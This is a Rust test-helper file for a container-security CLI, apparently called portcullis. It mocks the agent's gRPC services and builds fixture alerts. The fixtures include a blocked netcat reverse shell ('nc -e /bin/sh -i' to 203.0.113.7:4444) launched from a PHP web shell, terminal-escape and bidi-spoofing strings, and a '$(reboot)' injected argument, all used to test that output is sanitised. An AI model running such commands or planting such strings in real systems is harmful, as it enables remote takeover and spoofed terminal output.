//! The agent, its data, and running the program.

use std::{
    path::{Path, PathBuf},
    pin::Pin,
    process::{Command, Output},
    sync::{Arc, Mutex},
    thread,
};

use portcullis_proto::v1::{
    container_service_server::{ContainerService, ContainerServiceServer},
    containment_service_server::{ContainmentService, ContainmentServiceServer},
    node_service_server::{NodeService, NodeServiceServer},
    policy_service_server::{PolicyService, PolicyServiceServer},
    signal_service_server::{SignalService, SignalServiceServer},
    triage_service_server::{TriageService, TriageServiceServer},
    *,
};
use tempfile::TempDir;
use tokio::{net::UnixListener, sync::oneshot};
use tokio_stream::{Stream, StreamExt, wrappers::UnixListenerStream};
use tonic::{Request, Response, Status, transport::Server};

/// What a hostile container would choose for its names: a screen cleared, a line forged, a word turned around.
pub const HOSTILE: &str = "x\x1b[2J\nforged  line\u{202e}gpj\u{9b}31m";

/// The program, pointed at this socket.
pub fn portcullis(socket: &Path) -> Command {
    let mut command = Command::new(env!("CARGO_BIN_EXE_portcullis"));
    command.env_remove("NO_COLOR").env("PORTCULLIS_SOCKET", socket);
    command
}

pub fn stdout(output: &Output) -> String {
    String::from_utf8(output.stdout.clone()).unwrap()
}

pub fn stderr(output: &Output) -> String {
    String::from_utf8(output.stderr.clone()).unwrap()
}

/// A directory with room for a socket.
pub struct Node {
    pub directory: TempDir,
}

impl Node {
    pub fn new() -> Self {
        Self { directory: tempfile::tempdir().unwrap() }
    }

    pub fn socket(&self) -> PathBuf {
        self.directory.path().join("portcullis.sock")
    }

    /// Runs the program to its end.
    pub fn run(&self, arguments: &[&str]) -> Output {
        portcullis(&self.socket()).args(arguments).output().unwrap()
    }

    /// Runs the program and reads its JSON.
    pub fn json(&self, arguments: &[&str]) -> serde_json::Value {
        let output = self.run(&[arguments, &["-o", "json"]].concat());
        assert!(output.status.success(), "{}", stderr(&output));
        serde_json::from_slice(&output.stdout).unwrap()
    }
}

/// What the agent knows, and what it was asked.
#[derive(Clone, Default)]
pub struct Data {
    pub signals: Vec<Signal>,
    /// Told to watchers after the signals.
    pub updates: Vec<SignalUpdate>,
    pub containers: Vec<Container>,
    pub status: GetStatusResponse,
    pub lists: Arc<Mutex<Vec<ListSignalsRequest>>>,
    pub watches: Arc<Mutex<Vec<WatchSignalsRequest>>>,
    pub policies: Vec<Policy>,
    /// Why they are perhaps not the newest.
    pub policy_error: String,
    /// What every change is refused with.
    pub refuse: Option<Status>,
    pub applied: Arc<Mutex<Vec<ApplyPolicyRequest>>>,
    pub deleted: Arc<Mutex<Vec<DeletePolicyRequest>>>,
    pub modes: Arc<Mutex<Vec<SetModeRequest>>>,
    pub explained: Arc<Mutex<Vec<ExplainPolicyRequest>>>,
    pub explanation: ExplainPolicyResponse,
    pub contained: Arc<Mutex<Vec<ContainRequest>>>,
    pub released: Arc<Mutex<Vec<ReleaseRequest>>>,
    pub triaged: Arc<Mutex<Vec<SetTriageStateRequest>>>,
    pub summarized: Arc<Mutex<Vec<SummarizeSignalsRequest>>>,
    pub summary: SummarizeSignalsResponse,
    pub stories: Arc<Mutex<Vec<GetStoryRequest>>>,
    pub story: Option<GetStoryResponse>,
    /// Told to watchers before the signals.
    pub gap: Option<WatchGap>,
    /// Told to watchers after everything else.
    pub throttled: Option<WatchThrottled>,
    /// End a watch's stream after its signals instead of keeping it open.
    pub watch_ends: bool,
}

/// A running agent; dropping it cuts every connection, as a crash would.
pub struct Agent {
    stop: Option<oneshot::Sender<()>>,
    thread: Option<thread::JoinHandle<()>>,
}

impl Agent {
    pub fn start(node: &Node, data: Data) -> Self {
        let socket = node.socket();
        let _ = std::fs::remove_file(&socket);
        let (stop, stopped) = oneshot::channel();
        let (ready, is_ready) = std::sync::mpsc::channel();
        let thread = thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
            runtime.block_on(async move {
                let listener = UnixListener::bind(socket).unwrap();
                ready.send(()).unwrap();
                let server = Server::builder()
                    .add_service(SignalServiceServer::new(data.clone()))
                    .add_service(ContainerServiceServer::new(data.clone()))
                    .add_service(PolicyServiceServer::new(data.clone()))
                    .add_service(ContainmentServiceServer::new(data.clone()))
                    .add_service(TriageServiceServer::new(data.clone()))
                    .add_service(NodeServiceServer::new(data))
                    .serve_with_incoming(UnixListenerStream::new(listener));
                tokio::select! {
                    result = server => result.unwrap(),
                    _ = stopped => {}
                }
            });
        });
        is_ready.recv().unwrap();
        Self { stop: Some(stop), thread: Some(thread) }
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        drop(self.stop.take());
        self.thread.take().unwrap().join().unwrap();
    }
}

#[tonic::async_trait]
impl SignalService for Data {
    /// Page tokens are offsets.
    async fn list_signals(
        &self,
        request: Request<ListSignalsRequest>,
    ) -> Result<Response<ListSignalsResponse>, Status> {
        let request = request.into_inner();
        self.lists.lock().unwrap().push(request.clone());
        if request.filter.as_ref().is_some_and(|filter| filter.tool == "refuse") {
            return Err(Status::invalid_argument(format!("no tool {HOSTILE}")));
        }
        let verdict = request.filter.as_ref().map_or(0, |filter| filter.verdict);
        let signals: Vec<&Signal> =
            self.signals.iter().filter(|signal| verdict == 0 || signal.verdict == verdict).collect();
        let start: usize = request.page_token.parse().unwrap_or(0);
        let end = (start + request.page_size as usize).min(signals.len());
        let next_page_token = if end < signals.len() { end.to_string() } else { String::new() };
        let signals = signals[start..end].iter().map(|&signal| signal.clone()).collect();
        Ok(Response::new(ListSignalsResponse { signals, next_page_token }))
    }

    async fn get_signal(&self, request: Request<GetSignalRequest>) -> Result<Response<GetSignalResponse>, Status> {
        let id = request.into_inner().id;
        let signal = self.signals.iter().find(|signal| signal.id == id).cloned();
        let signal = signal.ok_or_else(|| Status::not_found(format!("signal {id}")))?;
        Ok(Response::new(GetSignalResponse { signal: Some(signal) }))
    }

    async fn summarize_signals(
        &self,
        request: Request<SummarizeSignalsRequest>,
    ) -> Result<Response<SummarizeSignalsResponse>, Status> {
        self.summarized.lock().unwrap().push(request.into_inner());
        Ok(Response::new(self.summary.clone()))
    }

    type WatchSignalsStream = Pin<Box<dyn Stream<Item = Result<WatchSignalsResponse, Status>> + Send>>;

    async fn watch_signals(
        &self,
        request: Request<WatchSignalsRequest>,
    ) -> Result<Response<Self::WatchSignalsStream>, Status> {
        let request = request.into_inner();
        self.watches.lock().unwrap().push(request.clone());
        let after = request.after_id.unwrap_or(u64::MAX);
        let signals: Vec<_> = self.signals.iter().filter(|signal| signal.id > after).cloned().collect();
        let after = request.after_revision.unwrap_or(0);
        let updates: Vec<_> = self.updates.iter().filter(|update| update.revision > after).cloned().collect();
        let signals = signals
            .into_iter()
            .map(|signal| WatchSignalsResponse { signal: Some(signal), ..WatchSignalsResponse::default() });
        let updates = updates
            .into_iter()
            .map(|update| WatchSignalsResponse { update: Some(update), ..WatchSignalsResponse::default() });
        let gap =
            self.gap.clone().map(|gap| WatchSignalsResponse { gap: Some(gap), ..WatchSignalsResponse::default() });
        let throttled = self
            .throttled
            .map(|throttled| WatchSignalsResponse { throttled: Some(throttled), ..WatchSignalsResponse::default() });
        let all = gap.into_iter().chain(signals).chain(updates).chain(throttled);
        let stored = tokio_stream::iter(all.map(Ok).collect::<Vec<_>>());
        if self.watch_ends {
            return Ok(Response::new(Box::pin(stored)));
        }
        Ok(Response::new(Box::pin(stored.chain(tokio_stream::pending()))))
    }
}

#[tonic::async_trait]
impl TriageService for Data {
    async fn set_triage_state(
        &self,
        request: Request<SetTriageStateRequest>,
    ) -> Result<Response<SetTriageStateResponse>, Status> {
        let request = request.into_inner();
        let triage = Triage {
            state: request.state,
            note: request.note.clone(),
            author: request.author.clone(),
            ..Triage::default()
        };
        let chosen = self.signals.iter().filter(|signal| request.signal_ids.contains(&signal.id));
        let signals = chosen.map(|signal| Signal { triage: Some(triage.clone()), ..signal.clone() }).collect();
        self.triaged.lock().unwrap().push(request);
        Ok(Response::new(SetTriageStateResponse { signals }))
    }

    async fn get_story(&self, request: Request<GetStoryRequest>) -> Result<Response<GetStoryResponse>, Status> {
        self.stories.lock().unwrap().push(request.into_inner());
        self.story.clone().map(Response::new).ok_or_else(|| Status::not_found("there is no signal 7"))
    }
}

#[tonic::async_trait]
impl ContainerService for Data {
    async fn list_containers(
        &self,
        request: Request<ListContainersRequest>,
    ) -> Result<Response<ListContainersResponse>, Status> {
        let ended = request.into_inner().include_ended;
        let containers = self.containers.iter().filter(|container| ended || container.ended.is_none());
        Ok(Response::new(ListContainersResponse { containers: containers.cloned().collect() }))
    }
}

#[tonic::async_trait]
impl ContainmentService for Data {
    /// Whatever is asked for, the container is locked.
    async fn contain(&self, request: Request<ContainRequest>) -> Result<Response<ContainResponse>, Status> {
        let request = request.into_inner();
        self.contained.lock().unwrap().push(request.clone());
        let container = self.containers.iter().find(|container| container.id == request.container_id).cloned();
        let container = container.ok_or_else(|| Status::not_found(format!("no container {}", request.container_id)))?;
        let containment = Some(Containment { frozen: None, network_isolated: false, locked: true });
        Ok(Response::new(ContainResponse { container: Some(Container { containment, ..container }) }))
    }

    async fn release(&self, request: Request<ReleaseRequest>) -> Result<Response<ReleaseResponse>, Status> {
        self.released.lock().unwrap().push(request.into_inner());
        let containment = Some(Containment { frozen: Some(false), ..Containment::default() });
        Ok(Response::new(ReleaseResponse { container: Some(Container { containment, ..container() }) }))
    }
}

#[tonic::async_trait]
impl NodeService for Data {
    async fn get_status(&self, _: Request<GetStatusRequest>) -> Result<Response<GetStatusResponse>, Status> {
        Ok(Response::new(self.status.clone()))
    }
}

impl Data {
    fn refuse(&self) -> Result<(), Status> {
        self.refuse.clone().map_or(Ok(()), Err)
    }

    fn policy(&self, name: &str) -> Result<Policy, Status> {
        let policy = self.policies.iter().find(|policy| policy.name == name).cloned();
        policy.ok_or_else(|| Status::not_found(format!("there is no policy {name:?}")))
    }
}

#[tonic::async_trait]
impl PolicyService for Data {
    async fn list_policies(&self, _: Request<ListPoliciesRequest>) -> Result<Response<ListPoliciesResponse>, Status> {
        let (policies, error) = (self.policies.clone(), self.policy_error.clone());
        let last_pass = Some(prost_types::Duration { seconds: 0, nanos: 1_234_567 });
        let moves = Some(ContainerMoves { passes: 2, moved: 5, failed: 0, last_pass });
        Ok(Response::new(ListPoliciesResponse { policies, error, moves }))
    }

    async fn get_policy(&self, request: Request<GetPolicyRequest>) -> Result<Response<GetPolicyResponse>, Status> {
        let policy = self.policy(&request.into_inner().name)?;
        Ok(Response::new(GetPolicyResponse { policy: Some(policy), yaml: "# \u{202e}\nkind: x\n".into() }))
    }

    async fn apply_policy(
        &self,
        request: Request<ApplyPolicyRequest>,
    ) -> Result<Response<ApplyPolicyResponse>, Status> {
        let request = request.into_inner();
        self.applied.lock().unwrap().push(request.clone());
        if !request.yaml.contains("fine") {
            self.refuse()?;
        }
        let policy = self.policies.first().cloned();
        Ok(Response::new(ApplyPolicyResponse { change: PolicyChange::Created.into(), policy }))
    }

    async fn delete_policy(
        &self,
        request: Request<DeletePolicyRequest>,
    ) -> Result<Response<DeletePolicyResponse>, Status> {
        let request = request.into_inner();
        self.deleted.lock().unwrap().push(request.clone());
        self.refuse()?;
        Ok(Response::new(DeletePolicyResponse { policy: Some(self.policy(&request.name)?) }))
    }

    async fn set_mode(&self, request: Request<SetModeRequest>) -> Result<Response<SetModeResponse>, Status> {
        let request = request.into_inner();
        self.modes.lock().unwrap().push(request.clone());
        self.refuse()?;
        let reason = if request.mode == 0 { "policy" } else { "operator" };
        let mode = if request.mode == 0 { Mode::Detect.into() } else { request.mode };
        Ok(Response::new(SetModeResponse { mode, mode_reason: reason.into(), containers: 1 }))
    }

    async fn explain_policy(
        &self,
        request: Request<ExplainPolicyRequest>,
    ) -> Result<Response<ExplainPolicyResponse>, Status> {
        self.explained.lock().unwrap().push(request.into_inner());
        Ok(Response::new(self.explanation.clone()))
    }
}

pub fn time(seconds: i64) -> prost_types::Timestamp {
    prost_types::Timestamp { seconds: 1_700_000_000 + seconds, nanos: 123_456_789 }
}

pub const CONTAINER_ID: &str = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef";

pub fn container() -> Container {
    Container {
        id: CONTAINER_ID.into(),
        containerd_namespace: "k8s.io".into(),
        image: "docker.io/library/web:1".into(),
        cgroup_id: 4711,
        pod: Some(Pod {
            name: "web-0".into(),
            namespace: "shop".into(),
            sandbox_id: "feed".into(),
            container_name: "web".into(),
            uid: "2f1c".into(),
        }),
        mode: Mode::Enforce.into(),
        policy: "default".into(),
        guarded: true,
        created: Some(time(-60)),
        counters: Some(Counters { matched: 3, blocked: 1, killed: 1, lost: 0, excepted: 0, activities_lost: 0 }),
        mode_reason: "annotation".into(),
        backend: Backend::Lsm.into(),
        ..Container::default()
    }
}

/// A web shell runs `nc -e` and is stopped.
pub fn signal(id: u64) -> Signal {
    let ancestor = |pid, exe: &str, argv: &[&str]| Ancestor {
        pid,
        container_pid: pid - 1000,
        uid: 33,
        exe: exe.into(),
        argv: argv.iter().map(|&word| word.into()).collect(),
        start_time: Some(time(-10)),
        ..Ancestor::default()
    };
    Signal {
        id,
        rule: "net_util_in_container".into(),
        severity: Severity::High.into(),
        verdict: Verdict::Blocked.into(),
        time: Some(time(0)),
        tool: Some(Tool { id: "nc".into(), category: "netcat".into(), techniques: vec!["T1095".into()] }),
        identified_by: vec![Identification::ResolvedName.into(), Identification::InvokedName.into()],
        container: Some(container()),
        process: Some(Process {
            pid: 1042,
            tid: 1042,
            container_pid: 42,
            uid: 33,
            gid: 33,
            invoked_name: "nc".into(),
            filename: "/tmp/nc".into(),
            exe: "/usr/bin/nc.openbsd".into(),
            argv: ["nc", "-e", "/bin/sh -i", "203.0.113.7", "4444"].map(Into::into).to_vec(),
            argc: 5,
            argv_unconfirmed: true,
            cwd: "/tmp".into(),
            start_time: Some(time(-1)),
            places: vec![Place::TemporaryDirectory.into(), Place::UpperLayer.into()],
            ..Process::default()
        }),
        lineage: vec![
            ancestor(1042, "/bin/dash", &["sh", "-c", "nc -e '/bin/sh -i' 203.0.113.7 4444"]),
            ancestor(1020, "/usr/bin/php", &[]),
            ancestor(1001, "/usr/sbin/apache2", &["apache2", "-DFOREGROUND"]),
        ],
        origin: Origin::Container.into(),
        policy: "default".into(),
        backend: Backend::Lsm.into(),
        message: "nc was executed and blocked".into(),
        remote: Some(Endpoint { address: "203.0.113.7".into(), port: 4444 }),
        related: vec![3, 5],
        policy_rule: 2,
        count: 1,
        last_time: Some(time(0)),
        novelty: Some(Novelty {
            first_seen: Some(time(-5 * 86_400)),
            last_seen: Some(time(-86_400)),
            days_seen: 5,
            times_seen: 40,
            workload_known_since: Some(time(-9 * 86_400)),
            habitual: true,
            summary: "seen daily since 2023-11-09".into(),
            ..Novelty::default()
        }),
        ..Signal::default()
    }
}

/// Hostile wherever a container can choose the text.
pub fn hostile(id: u64) -> Signal {
    let mut signal = signal(id);
    signal.message = HOSTILE.into();
    let container = signal.container.as_mut().unwrap();
    container.image = HOSTILE.into();
    container.pod = None;
    let process = signal.process.as_mut().unwrap();
    for text in [&mut process.invoked_name, &mut process.filename, &mut process.exe, &mut process.cwd, &mut process.tty]
    {
        *text = HOSTILE.into();
    }
    process.argv = vec![HOSTILE.into(), "$(reboot)".into()];
    signal.count = 2;
    signal.occurrences = vec![Occurrence { argv: vec![HOSTILE.into()], ..Occurrence::default() }];
    signal.suppressed = vec![SuppressedCount { tool: HOSTILE.into(), count: 1, ..SuppressedCount::default() }];
    for ancestor in &mut signal.lineage {
        ancestor.exe = HOSTILE.into();
        ancestor.argv = vec![HOSTILE.into()];
    }
    signal
}

/// Nothing in it may do more than show itself.
pub fn assert_harmless(text: &str) {
    for c in text.chars() {
        assert!(c == '\n' || !(c.is_control() || c == '\u{202e}'), "{c:?} in {text:?}");
    }
    assert!(!text.lines().any(|line| line.starts_with("forged")), "{text}");
}
